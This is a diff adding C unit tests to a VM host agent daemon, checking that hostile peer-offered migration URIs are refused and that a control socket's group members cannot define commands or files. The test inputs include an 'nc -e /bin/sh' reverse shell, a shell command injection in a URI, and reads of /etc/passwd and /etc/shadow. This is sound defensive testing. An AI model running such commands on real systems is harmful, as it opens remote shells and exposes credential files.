@@ -17,11 +17,13 @@
  */
 #include "tests/unit/cu_run.h"
 #include <errno.h>
+#include <grp.h>
 #include <poll.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
 #include <sys/un.h>
 #include <unistd.h>
 
@@ -30,6 +32,8 @@
 #include "host-agent/hostd/ops/idle.h"
 #include "host-agent/hostd/ops/migrate.h"
 #include "host-agent/hostd/peer/peer.h"
+#include "host-agent/hostd/peer/peer_uri.h"
+#include "host-agent/hostd/registry.h"
 #include "host-agent/hostd/vm.h"
 #include "tests/unit/hostd_harness.h"
 
@@ -272,6 +276,83 @@ static void test_fail_errno(void)
 	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(e, "error")),
 			       "device_del vf0: No such device");
 	teardown();
+}
+
+/* The migration URI is the source's, not the peer's: a hostile destination answering
+ * exec:/file:/… is refused before anything moves and QEMU is never asked to migrate. */
+static void test_hostile_uri(void)
+{
+	static const char *const bad[] = {
+		"exec:sh -c 'touch /tmp/hybond-pwned'", "file:/etc/passwd", "fd:3",
+		"unix:relative/mig.sock", "unix:/a,b", "unix:/x/../y", "tcp:host.example:4444",
+		"tcp:198.18.0.1", "tcp:198.18.0.1:0", "tcp:198.18.0.1:65536", "tcp:198.18.0.1:+1",
+		"rdma:198.18.0.1:4444", "tcp:198.18.0.1:4444\n", "",
+	};
+	char err[256];
+	size_t i;
+
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		setup(VM_MODE_FAILOVER, 1);
+		P.offer_uri = bad[i];
+		CU_ASSERT_EQUAL_FATAL(mig_start_source(V, "B", 0, NULL, err, sizeof(err)), 0);
+		CU_ASSERT_EQUAL(until("none", 3000), 0);
+		CU_ASSERT_EQUAL(called("migrate"), 0);
+		CU_ASSERT_EQUAL(G.n_prepare, 0);                /* nothing moved */
+		CU_ASSERT_EQUAL(V->cnt.steer_standby, 0);
+		CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "errno")),
+				       "EPERM");
+		teardown();
+	}
+	/* what is taken: a local peer's unix socket path, as the lab's launcher prints it */
+	setup(VM_MODE_FAILOVER, 1);
+	P.offer_uri = "unix:/run/hybond-lab/vms/vm1/hB/mig.sock";
+	to_migrating();
+	CU_ASSERT_EQUAL(called("migrate"), 1);
+	teardown();
+}
+
+/* The URI built for a peer reached over TCP: only the port is the peer's. */
+static void test_peer_uri(void)
+{
+	struct peer_config tcp = { .name = "B", .address = "198.19.254.2:7000" };
+	struct peer_config v6 = { .name = "C", .address = "[2001:db8::2]:7000" };
+	struct peer_config local = { .name = "L", .socket = "/run/hybond/peer.sock" };
+	char out[CFG_PATH_MAX], err[512];
+
+	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "tcp:203.0.113.66:49152", out, sizeof(out),
+					   err, sizeof(err)), 0);
+	CU_ASSERT_STRING_EQUAL(out, "tcp:198.19.254.2:49152");
+	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "tcp:[::1]:49153", out, sizeof(out), err,
+					   sizeof(err)), 0);
+	CU_ASSERT_STRING_EQUAL(out, "tcp:198.19.254.2:49153");
+	CU_ASSERT_EQUAL(peer_migration_uri(&v6, "tcp:0:50000", out, sizeof(out), err,
+					   sizeof(err)), 0);
+	CU_ASSERT_STRING_EQUAL(out, "tcp:[2001:db8::2]:50000");
+	/* a remote peer never names a unix socket on this host */
+	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "unix:/run/libvirt/libvirt-sock", out,
+					   sizeof(out), err, sizeof(err)), -EPERM);
+	CU_ASSERT_PTR_NOT_NULL(strstr(err, "peer B offered"));
+	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "exec:nc -e /bin/sh 203.0.113.66 1", out,
+					   sizeof(out), err, sizeof(err)), -EPERM);
+	CU_ASSERT_PTR_NOT_NULL(strstr(err, "nothing was run"));
+	/* control characters are quoted escaped */
+	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "exec:\x1b[2J\n", out, sizeof(out), err,
+					   sizeof(err)), -EPERM);
+	CU_ASSERT_PTR_NOT_NULL(strstr(err, "\\x1b"));
+	CU_ASSERT_PTR_NULL(strchr(err, '\n'));
+	/* a local peer: an IP literal or an absolute plain path */
+	CU_ASSERT_EQUAL(peer_migration_uri(&local, "tcp:198.19.254.2:49152", out, sizeof(out),
+					   err, sizeof(err)), 0);
+	CU_ASSERT_STRING_EQUAL(out, "tcp:198.19.254.2:49152");
+	CU_ASSERT_EQUAL(peer_migration_uri(&local, "tcp:[::1]:49152", out, sizeof(out), err,
+					   sizeof(err)), 0);
+	CU_ASSERT_EQUAL(peer_migration_uri(&local, "unix:/run/x/mig.sock", out, sizeof(out),
+					   err, sizeof(err)), 0);
+	CU_ASSERT_STRING_EQUAL(out, "unix:/run/x/mig.sock");
+	CU_ASSERT_EQUAL(peer_migration_uri(&local, "unix:/run/x/mig sock", out, sizeof(out),
+					   err, sizeof(err)), -EPERM);
+	CU_ASSERT_EQUAL(peer_migration_uri(&local, NULL, out, sizeof(out), err, sizeof(err)),
+			-EPERM);
 }
 
 /* A drill's record and a migration's for the same VM (a daemon killed twice): the
@@ -705,6 +786,114 @@ static void test_lv_hook_ctl(void)
 	teardown();
 }
 
+/* Connect as uid 65534 with primary group 65534 and groups supplementary (n of them):
+ * SO_PEERCRED / SO_PEERGROUPS take the credentials at connect(). */
+static int ctl_connect_as_nobody(const char *path, const gid_t *groups, size_t n)
+{
+	gid_t root_group = 0;
+	int fd;
+
+	CU_ASSERT_FATAL(setgroups(n, groups) == 0 && setegid(65534) == 0 && seteuid(65534) == 0);
+	fd = ctl_connect(path);
+	CU_ASSERT_FATAL(seteuid(0) == 0 && setegid(0) == 0 && setgroups(1, &root_group) == 0);
+	return fd;
+}
+
+/* One request on fd (connected already), pumping the loop; the answer or NULL. */
+static json_t *ctl_ask_fd(int fd, json_t *req)
+{
+	char *line = json_dumps(req, JSON_COMPACT), buf[4096];
+	size_t len = 0;
+	unsigned t;
+	json_t *ans = NULL;
+
+	json_decref(req);
+	CU_ASSERT_FATAL(fd >= 0 && line != NULL);
+	CU_ASSERT(write(fd, line, strlen(line)) == (ssize_t)strlen(line));
+	CU_ASSERT(write(fd, "\n", 1) == 1);
+	free(line);
+	for (t = 0; t <= 1000 && !ans; t += 10) {
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		ssize_t n;
+
+		pump(10);
+		if (poll(&p, 1, 0) == 1 && (n = read(fd, buf + len, sizeof(buf) - 1 - len)) > 0)
+			len += (size_t)n;
+		buf[len] = 0;
+		if (strchr(buf, '\n'))
+			ans = json_loads(buf, JSON_DISABLE_EOF_CHECK, NULL);
+	}
+	(void)close(fd);
+	return ans;
+}
+
+static const char *ans_error(json_t *a)
+{
+	return json_string_value(json_object_get(a, "error"));
+}
+
+/* A member of ctl_group (through a supplementary group) operates VMs but cannot define
+ * commands, sockets or files; someone in neither is refused at connect. */
+static void test_ctl_group(void)
+{
+	struct group *g = getgrnam("users");
+	char err[256], path[160];
+	gid_t member;
+	json_t *a;
+
+	setup(VM_MODE_FAILOVER, 1);
+	CU_ASSERT_PTR_NOT_NULL_FATAL(g);        /* Debian's base-passwd: gid 100 */
+	member = g->gr_gid;
+	(void)snprintf(D.cfg.ctl_group, sizeof(D.cfg.ctl_group), "users");
+	/* the group only as a supplementary one (the primary is 65534) */
+	(void)snprintf(path, sizeof(path), "%s/ctl.sock", dir);
+	(void)snprintf(D.cfg.ctl_socket, sizeof(D.cfg.ctl_socket), "%s", path);
+	CU_ASSERT_FATAL(chmod(dir, 0711) == 0);
+	CU_ASSERT_EQUAL_FATAL(ctl_listen(&D, err, sizeof(err)), 0);
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
+		       json_pack("{s:s}", "cmd", "status"));
+	CU_ASSERT_TRUE(json_is_true(json_object_get(a, "ok")));
+	json_decref(a);
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
+		       json_pack("{s:s, s:{s:s, s:s, s:s}}", "cmd", "vm-add", "vm", "name", "evil",
+				 "mac", "52:54:00:00:00:99", "launcher", "/bin/sh -c id"));
+	CU_ASSERT_PTR_NOT_NULL_FATAL(a);
+	CU_ASSERT_FALSE(json_is_true(json_object_get(a, "ok")));
+	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
+	json_decref(a);
+	CU_ASSERT_PTR_NULL(hostd_vm(&D, "evil"));
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
+		       json_pack("{s:s, s:s, s:s}", "cmd", "snapshot", "vm", "vm1", "file",
+				 "/etc/shadow"));
+	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
+	json_decref(a);
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
+		       json_pack("{s:s, s:s, s:s, s:s}", "cmd", "libvirt-hook", "domain", "vm1",
+				 "op", "migrate", "sub", "begin"));
+	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
+	json_decref(a);
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
+		       json_pack("{s:s, s:s}", "cmd", "vm-del", "vm", "vm1"));
+	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
+	json_decref(a);
+	CU_ASSERT_PTR_NOT_NULL(hostd_vm(&D, "vm1"));
+	/* operating is allowed: a migrate to an unknown peer fails for that reason */
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
+		       json_pack("{s:s, s:s, s:s}", "cmd", "migrate", "vm", "vm1", "to", "nowhere"));
+	CU_ASSERT_PTR_NOT_NULL_FATAL(ans_error(a));
+	CU_ASSERT_PTR_NULL(strstr(ans_error(a), "root only"));
+	json_decref(a);
+	/* not in the group: the socket's mode keeps it out, and the daemon refuses it even
+	 * when someone loosened the mode */
+	CU_ASSERT_EQUAL(ctl_connect_as_nobody(path, NULL, 0), -1);
+	CU_ASSERT_FATAL(chmod(path, 0666) == 0);
+	a = ctl_ask_fd(ctl_connect_as_nobody(path, NULL, 0), json_pack("{s:s}", "cmd", "status"));
+	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "permission denied"));
+	json_decref(a);
+	ctl_close(&D);
+	teardown();
+}
+
 /* Destination without a hook: an incoming domain appears (inmigrate), then resumes with
  * nobody having told the daemon: RX to the standby, the guest's VF awaited, fast path. */
 static void test_lv_dest_unannounced(void)
@@ -802,6 +991,9 @@ static CU_TestInfo tests[] = {
 	{ "peer lost in MIGRATING: cancel, then roll back", test_peer_lost_migrating },
 	{ "rollback without the VF back: RX stays on the standby", test_rollback_no_vf },
 	{ "a failed call keeps its errno in the result", test_fail_errno },
+	{ "a hostile destination's exec:/file: URI: refused, nothing run", test_hostile_uri },
+	{ "ctl_group (supplementary): operates VMs, defines nothing", test_ctl_group },
+	{ "the migration URI: only the port is a TCP peer's", test_peer_uri },
 	{ "recovery: QEMU's answer decides", test_recover_source },
 	{ "recovery: a migration before a drill of the same VM", test_recover_migration_first },
 	{ "recovery: bond VF re-plugged with a fresh id", test_recover_bond_replug },
